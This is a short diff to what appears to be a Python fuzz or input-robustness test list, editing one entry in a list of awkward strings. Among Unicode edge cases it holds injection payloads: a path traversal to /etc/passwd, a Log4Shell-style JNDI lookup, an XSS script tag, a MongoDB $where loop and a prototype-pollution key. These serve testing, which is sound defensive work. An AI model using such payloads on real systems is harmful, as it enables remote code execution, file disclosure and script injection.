@@ -130,7 +130,7 @@ FRAGMENTS = [
     "{a}{b} }{ {} {{name}}", "*?[a-z]^\\", '{"$where": "while(1);"}', "$$ROOT.$lockUntil", "__proto__.constructor",
     "\u202eesrever\u202c", "\u2066isolate\u2069", "\u200b\u200d\ufeffzero width", "e\u0301\u0327\u0323 combining",
     "\u1e9e\u0130\u0131\ufb01\uff21", "a" + "\u0301" * 63, "line\u2028separator\u2029", "\U0010ffff\ufffe\uffff",
-    "../../etc/passwd", "${jndi:ldap://h/x}", "<script>alert(1)</script>", "\xa0no-break\xa0",
+    "../../etc/passwd", "${jndi:ldap:/h/x}", "<script>alert(1)</script>", "\xa0no-break\xa0",
 ]  # fmt: skip
 
 
